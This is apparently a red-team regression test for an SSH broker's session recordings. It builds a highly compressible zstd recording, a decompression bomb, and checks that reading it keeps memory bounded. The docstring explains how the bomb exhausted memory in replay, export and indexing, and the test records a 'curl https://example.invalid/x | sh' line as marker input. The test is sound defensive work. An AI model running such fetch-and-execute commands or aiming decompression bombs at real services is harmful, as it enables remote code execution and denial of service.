"""Red team: a recording that compresses too well is a decompression bomb for every reader.

The broker writes one zstd frame per flush (broker/recording/writer.py), and ``_Source.read`` hands each chunk of
256 KiB of the *compressed* file to a decompressor with no bound on its output. Input of zeros (``head -c
1G /dev/zero | ssh HOST 'cat > /dev/null'``, recorded in full as invariant 5 asks) compresses about
2,600 to 1: 1 GiB made a 400 KB recording, and one read of it gave back 500 MB at once. Seen on a running
stack: ``jit-ssh replay`` of that session held the broker's event loop for 3.5 s at a time (the enforcement
clock runs on it) and grew the broker to 2.2 GB; ``jit-ssh export`` grew the reviewer's CLI to 19.6 GB
before the kernel's OOM killer stopped it; the index process died at once over its 1 GiB memory budget,
so nothing in that recording (a script fed before the zeros included) is found by ``--grep``.

The property: reading a recording holds a bounded amount of memory, whatever its compression ratio.
"""

from __future__ import annotations

import tracemalloc
from pathlib import Path

from jit_ssh.broker.recording.format import read_recording
from jit_ssh.broker.recording.recorder import FULL, Recorder

_ZEROS = 128 * 1024 * 1024
#: More than the largest frame a reader must hold (16 MiB), far less than the input.
_BOUND = 24 * 1024 * 1024


def _bomb(path: Path) -> None:
    header = {"version": 2, "width": 80, "height": 24, "jit_ssh": {"session": "bomb", "kind": "exec"}}
    recorder = Recorder.open(path, header, limits={"o": FULL, "e": FULL, "i": FULL})
    recorder.data("i", b"curl https://example.invalid/x | sh\n")
    chunk = bytes(32 * 1024)  # what an SSH channel delivers at a time
    for _ in range(_ZEROS // len(chunk)):
        recorder.data("i", chunk)
    recorder.close({"reason": "closed"})


def test_reading_a_highly_compressible_recording_holds_bounded_memory(tmp_path: Path) -> None:
    path = tmp_path / "bomb.jsr"
    _bomb(path)
    assert path.stat().st_size < _ZEROS // 100  # the attack: a small file
    tracemalloc.start()
    try:
        _, frames, _ = read_recording(path)
        first = next(frames)
        _, peak = tracemalloc.get_traced_memory()
        del frames  # a generator: closing it closes the file
    finally:
        tracemalloc.stop()
    assert first.payload.startswith(b"curl ")
    assert peak < _BOUND, f"reading the first frame took {peak / 2**20:.0f} MiB"
